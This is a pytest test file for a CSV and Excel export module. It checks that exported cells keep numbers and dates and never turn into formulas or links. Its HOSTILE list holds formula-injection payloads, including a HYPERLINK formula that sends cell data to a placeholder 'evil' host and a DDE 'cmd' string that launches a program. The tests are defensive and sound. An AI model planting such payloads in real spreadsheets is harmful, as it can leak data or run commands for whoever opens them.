"""Lists as files, read back by other programs: the same cells, numbers as numbers, no formula."""

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest

from collab.tables import csv_text, excel, sheet_name, table_file

HEAD = ("Name", "Amount", "On")
HOSTILE = [
    '=HYPERLINK("http://evil?"&A1)', "=cmd|'/c calc'!A0", "+1", "@SUM(1)", "\t=1", "\r=1", " =1", "\u00a0=1", "＝1",
    "|x", "%0", "-1", "<script>", "a\0b", "\u202egpj.exe", "x" * 40_000, "", "  ", "NULL", "né 東京",
]  # fmt: skip


def read(content: bytes) -> list[tuple]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [tuple(cell.value for cell in row) for row in sheet.iter_rows()]


def test_excel_keeps_numbers_and_days():
    rows = [("a", Decimal("-1.5"), date(2026, 2, 28)), ("b", 7, None)]
    found = read(excel("Sums/2026", HEAD, rows))
    assert found[0] == HEAD
    assert [(name, amount, on and on.date()) for name, amount, on in found[1:]] == [
        ("a", -1.5, date(2026, 2, 28)), ("b", 7, None),
    ]  # fmt: skip


@pytest.mark.parametrize("cell", HOSTILE, ids=lambda cell: repr(cell)[:20])
def test_no_cell_becomes_a_formula_or_a_link(cell: str):
    book = openpyxl.load_workbook(io.BytesIO(excel("x", ("A",), [(cell,)])))
    found = book.active["A2"]
    assert found.data_type != "f"
    assert found.hyperlink is None
    kept = cell.translate({0: None, 13: None, 9: " "})[:32_767]
    assert (found.value or "").replace("\n", "") == kept.replace("\n", "") or not kept.strip()


@pytest.mark.parametrize("cell", HOSTILE, ids=lambda cell: repr(cell)[:20])
def test_csv_opens_in_a_spreadsheet_as_text(cell: str):
    (_head, (found,)) = csv.reader(io.StringIO(csv_text(("A",), [(cell or "-",)]).removeprefix("\ufeff"), newline=""))
    assert found.lstrip(" \u00a0")[:1] not in tuple("=+-@\t\r\n|%＝")
    assert found.removeprefix("'") == (cell or "-").replace("\0", "")


def test_csv_says_that_it_is_utf_8_and_keeps_negative_numbers():
    assert (
        csv_text(HEAD, [("é", Decimal("-1.50"), date(2026, 1, 2))]) == "\ufeffName,Amount,On\r\né,-1.50,2026-01-02\r\n"
    )


def test_sheet_names_are_ones_that_excel_takes():
    assert sheet_name("a/b: [c]?*'") == "a b c"
    assert sheet_name("x" * 50) == "x" * 31
    assert sheet_name("Gates", ["gates", "Gates 2"]) == "Gates 3"
    assert sheet_name("///") == "Sheet"


@pytest.mark.parametrize(("wanted", "kind"), [("csv", "text/csv"), ("xlsx", "officedocument")])
def test_a_list_answers_as_a_file_to_save(wanted: str, kind: str):
    answer = table_file(wanted, name="pará", title="Pará", head=HEAD, rows=[("a", 1, None)])
    assert kind in answer.headers["Content-Type"]
    assert answer.headers["Content-Disposition"].startswith("attachment")
